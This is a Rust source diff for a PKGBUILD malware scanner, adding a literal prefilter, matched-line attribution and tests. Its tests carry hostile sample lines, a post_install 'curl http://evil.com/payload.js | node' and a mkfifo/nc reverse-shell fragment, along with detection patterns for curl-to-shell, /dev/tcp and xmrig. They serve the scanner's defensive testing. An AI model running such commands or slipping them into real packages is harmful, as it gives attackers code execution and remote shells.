@@ -1,6 +1,11 @@
+use crate::shared::profile::{self, PatternTiming};
+use crate::shared::scoring::{Signal, SignalCategory};
+use aho_corasick::AhoCorasick;
 use regex::Regex;
+use regex_syntax::hir::literal::{ExtractKind, Extractor};
 use serde::Deserialize;
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
+use std::sync::{Arc, LazyLock, Mutex};
 
 /// A single pattern rule loaded from patterns.toml.
 #[derive(Debug, Deserialize)]
@@ -11,6 +16,9 @@ pub struct PatternRule {
     pub description: String,
     #[serde(default)]
     pub override_gate: bool,
+    /// Description in other languages, by language code (`de`), for text reports.
+    #[serde(default)]
+    pub translations: HashMap<String, String>,
 }
 
 /// Collection of pattern rules keyed by feature name.
@@ -27,6 +35,178 @@ pub struct CompiledPattern {
     pub points: u32,
     pub description: String,
     pub override_gate: bool,
+    timing: Arc<PatternTiming>,
+}
+
+impl CompiledPattern {
+    /// `regex.is_match`, timed when profiling is on.
+    pub fn is_match(&self, text: &str) -> bool {
+        self.timing.time(|| self.regex.is_match(text))
+    }
+
+    /// The trimmed line of `text` this pattern matched, for `Signal::matched_line`.
+    /// Patterns that only match across lines are attributed to the line their match
+    /// starts on.
+    pub fn matched_line(&self, text: &str) -> Option<String> {
+        self.matched_line_where(text, |_| true)
+    }
+
+    /// `matched_line`, skipping lines `accept` rejects.
+    fn matched_line_where(&self, text: &str, accept: impl Fn(&str) -> bool) -> Option<String> {
+        if let Some(line) = text.lines().take(MAX_ATTRIBUTION_LINES).find(|line| accept(line) && self.is_match(line)) {
+            return Some(line.trim().to_string());
+        }
+        let start = self.regex.find(text)?.start();
+        let line_start = text[..start].rfind('\n').map_or(0, |i| i + 1);
+        let line = text[line_start..].lines().next()?;
+        accept(line).then(|| line.trim().to_string())
+    }
+}
+
+/// Lines tried one at a time when attributing a match. Past this, the line the
+/// whole-text match starts on is used, so attribution stays one pass per pattern on
+/// PKGBUILDs with megabytes of inlined data.
+const MAX_ATTRIBUTION_LINES: usize = 10_000;
+
+/// Runs one `data/patterns.toml` section over a text and turns each matching pattern
+/// into a signal: prefiltered matching, line attribution and one signal per ID, the
+/// same for every regex-driven feature.
+pub struct PatternEngine;
+
+impl PatternEngine {
+    /// Signals for the patterns of `section` that match `content`, in database order.
+    /// `prefix` is prepended to each ID (`IS-` for install script matches).
+    pub fn scan(content: &str, section: &str, category: SignalCategory, prefix: &str) -> Vec<Signal> {
+        Self::scan_with(content, section, category, prefix, |_, _| true)
+    }
+
+    /// `scan`, attributing matches only to lines `accept` allows. A pattern that
+    /// matches but has no accepted line emits nothing.
+    pub fn scan_with(
+        content: &str,
+        section: &str,
+        category: SignalCategory,
+        prefix: &str,
+        accept: impl Fn(&CompiledPattern, &str) -> bool,
+    ) -> Vec<Signal> {
+        let mut seen = HashSet::new();
+        let mut signals = Vec::new();
+        for pat in pattern_set(section).matching(content) {
+            if !seen.insert(pat.id.as_str()) {
+                continue;
+            }
+            let Some(matched_line) = pat.matched_line_where(content, |line| accept(pat, line)) else {
+                continue;
+            };
+            signals.push(Signal {
+                id: format!("{prefix}{}", pat.id),
+                category,
+                points: pat.points,
+                description: pat.description.clone(),
+                is_override_gate: pat.override_gate,
+                matched_line: Some(matched_line),
+                location: None,
+                emitted_by: String::new(),
+            });
+        }
+        signals
+    }
+}
+
+/// Compiled sections by name, built on first use and kept for the life of the process.
+static SECTIONS: LazyLock<Mutex<HashMap<String, &'static PatternSet>>> = LazyLock::new(Default::default);
+
+/// The compiled, prefiltered patterns of one section, shared by every caller.
+pub fn pattern_set(section: &str) -> &'static PatternSet {
+    let mut sections = SECTIONS.lock().unwrap();
+    sections
+        .entry(section.to_string())
+        .or_insert_with(|| Box::leak(Box::new(load_pattern_set(section))))
+}
+
+/// Required literals shorter than this occur in nearly every PKGBUILD, so they would
+/// not let the prefilter skip anything.
+const MIN_LITERAL_LEN: usize = 3;
+
+/// Compiled patterns with an Aho-Corasick prefilter over their required literals.
+///
+/// Most patterns cannot match unless a literal like `curl`, `/dev/tcp` or `xmrig` is
+/// present. One pass of the prefilter over the text finds which of those literals
+/// occur; patterns whose literals are all absent are skipped without running their
+/// regex. Patterns without a usable literal always run.
+pub struct PatternSet {
+    patterns: Vec<CompiledPattern>,
+    prefilter: Option<AhoCorasick>,
+    /// Pattern index of each prefilter literal.
+    literal_owner: Vec<usize>,
+    /// Patterns that have no required literal.
+    unfiltered: Vec<bool>,
+}
+
+impl PatternSet {
+    pub fn new(patterns: Vec<CompiledPattern>) -> Self {
+        let mut literals = Vec::new();
+        let mut literal_owner = Vec::new();
+        let mut unfiltered = Vec::with_capacity(patterns.len());
+        for (i, pattern) in patterns.iter().enumerate() {
+            let required = required_literals(pattern.regex.as_str());
+            unfiltered.push(required.is_none());
+            for literal in required.unwrap_or_default() {
+                literals.push(literal);
+                literal_owner.push(i);
+            }
+        }
+        // Case-insensitive matching only widens what counts as present, which is safe
+        // for a prefilter and keeps `(?i)` patterns' literal lists short.
+        let prefilter = AhoCorasick::builder().ascii_case_insensitive(true).build(&literals).ok();
+        if prefilter.is_none() {
+            unfiltered.iter_mut().for_each(|u| *u = true);
+        }
+        PatternSet { patterns, prefilter, literal_owner, unfiltered }
+    }
+
+    pub fn iter(&self) -> std::slice::Iter<'_, CompiledPattern> {
+        self.patterns.iter()
+    }
+
+    /// Patterns that match `text`, in database order.
+    pub fn matching<'a>(&'a self, text: &'a str) -> impl Iterator<Item = &'a CompiledPattern> {
+        let candidates = self.candidates(text);
+        self.patterns.iter().zip(candidates).filter(move |(p, candidate)| *candidate && p.is_match(text)).map(|(p, _)| p)
+    }
+
+    /// Which patterns could match `text`: those with no required literal, and those
+    /// with one of their literals present.
+    fn candidates(&self, text: &str) -> Vec<bool> {
+        let mut candidates = self.unfiltered.clone();
+        if let Some(ref prefilter) = self.prefilter {
+            for m in prefilter.find_overlapping_iter(text) {
+                candidates[self.literal_owner[m.pattern().as_usize()]] = true;
+            }
+        }
+        candidates
+    }
+}
+
+impl<'a> IntoIterator for &'a PatternSet {
+    type Item = &'a CompiledPattern;
+    type IntoIter = std::slice::Iter<'a, CompiledPattern>;
+
+    fn into_iter(self) -> Self::IntoIter {
+        self.iter()
+    }
+}
+
+/// Literals one of which every match of `pattern` contains (its possible prefixes,
+/// or failing that its suffixes), or `None` if there is no finite set of useful ones.
+fn required_literals(pattern: &str) -> Option<Vec<Vec<u8>>> {
+    let hir = regex_syntax::Parser::new().parse(pattern).ok()?;
+    [ExtractKind::Prefix, ExtractKind::Suffix].into_iter().find_map(|kind| {
+        let seq = Extractor::new().kind(kind).extract(&hir);
+        let literals = seq.literals()?;
+        let usable = !literals.is_empty() && literals.iter().all(|l| l.as_bytes().len() >= MIN_LITERAL_LEN);
+        usable.then(|| literals.iter().map(|l| l.as_bytes().to_vec()).collect())
+    })
 }
 
 /// Load and compile patterns for a given section from the database.
@@ -49,7 +229,89 @@ pub fn load_patterns(section: &str) -> Vec<CompiledPattern> {
                 points: rule.points,
                 description: rule.description.clone(),
                 override_gate: rule.override_gate,
+                timing: profile::register_pattern(&rule.id),
             })
         })
         .collect()
 }
+
+/// `load_patterns` behind a literal prefilter.
+pub fn load_pattern_set(section: &str) -> PatternSet {
+    PatternSet::new(load_patterns(section))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const SECTIONS: &[&str] = &["pkgbuild_analysis", "install_script_analysis", "source_url_analysis", "gtfobins_analysis"];
+
+    #[test]
+    fn extracts_required_literals() {
+        let has = |pattern: &str, literal: &str| {
+            required_literals(pattern).is_some_and(|l| l.iter().any(|l| l.eq_ignore_ascii_case(literal.as_bytes())))
+        };
+        assert!(has(r"curl\s+[^|]*\|\s*(ba)?sh", "curl"));
+        assert!(has(r"(?i)xmrig", "xmrig"));
+        assert!(has(r"/dev/(tcp|udp)/", "/dev/tcp/"));
+        assert!(required_literals(r"[a-z]+=\$\(").is_some_and(|l| l == [b"=$(".to_vec()]));
+        assert!(required_literals(r".*").is_none());
+        assert!(required_literals(r"\bnc\s").is_none());
+    }
+
+    #[test]
+    fn prefilter_agrees_with_every_regex() {
+        let fixtures = ["benign/yay", "malicious/curl_pipe_bash", "malicious/cryptominer", "malicious/gtfobins_multi", "malicious/python_rce"]
+            .map(|f| std::fs::read_to_string(format!("{}/tests/fixtures/{f}.PKGBUILD", env!("CARGO_MANIFEST_DIR"))).unwrap());
+        let mut filtered = 0;
+        let mut total = 0;
+        for section in SECTIONS {
+            let set = load_pattern_set(section);
+            filtered += set.unfiltered.iter().filter(|u| !**u).count();
+            total += set.patterns.len();
+            for text in &fixtures {
+                let fast: Vec<&str> = set.matching(text).map(|p| p.id.as_str()).collect();
+                let slow: Vec<&str> = set.iter().filter(|p| p.regex.is_match(text)).map(|p| p.id.as_str()).collect();
+                assert_eq!(fast, slow, "{section}");
+            }
+        }
+        assert!(filtered * 2 > total, "only {filtered} of {total} patterns have a required literal");
+    }
+
+    #[test]
+    fn attributes_matched_line() {
+        let set = load_pattern_set("gtfobins_analysis");
+        let text = std::fs::read_to_string(format!("{}/tests/fixtures/malicious/gtfobins_multi.PKGBUILD", env!("CARGO_MANIFEST_DIR"))).unwrap();
+        for pattern in set.matching(&text) {
+            let line = pattern.matched_line(&text).unwrap_or_else(|| panic!("{} has no matched line", pattern.id));
+            assert!(text.lines().any(|l| l.trim() == line), "{}: {line}", pattern.id);
+        }
+
+        let multiline = CompiledPattern {
+            id: "TEST".into(),
+            regex: Regex::new(r"(?s)mkfifo.*nc ").unwrap(),
+            points: 0,
+            description: String::new(),
+            override_gate: false,
+            timing: profile::register_pattern("TEST"),
+        };
+        assert_eq!(multiline.matched_line("true\n  mkfifo /tmp/f\n  nc 10.0.0.1 4444\n").as_deref(), Some("mkfifo /tmp/f"));
+        assert_eq!(multiline.matched_line("true\n"), None);
+    }
+
+    #[test]
+    fn engine_prefixes_attributes_and_filters() {
+        let content = "post_install() {\n  curl http://evil.com/payload.js | node\n}\n";
+        let signals = PatternEngine::scan(content, "gtfobins_analysis", SignalCategory::Pkgbuild, "IS-");
+        let pipe = signals.iter().find(|s| s.id == "IS-G-PIPE-NODE").expect("IS-G-PIPE-NODE");
+        assert_eq!(pipe.matched_line.as_deref(), Some("curl http://evil.com/payload.js | node"));
+        assert!(std::ptr::eq(pattern_set("gtfobins_analysis"), pattern_set("gtfobins_analysis")));
+
+        let ids: Vec<String> = signals.iter().map(|s| s.id.clone()).collect();
+        let unique: HashSet<&String> = ids.iter().collect();
+        assert_eq!(unique.len(), ids.len());
+
+        let filtered = PatternEngine::scan_with(content, "gtfobins_analysis", SignalCategory::Pkgbuild, "", |p, _| p.id != "G-PIPE-NODE");
+        assert!(filtered.iter().all(|s| s.id != "G-PIPE-NODE"));
+    }
+}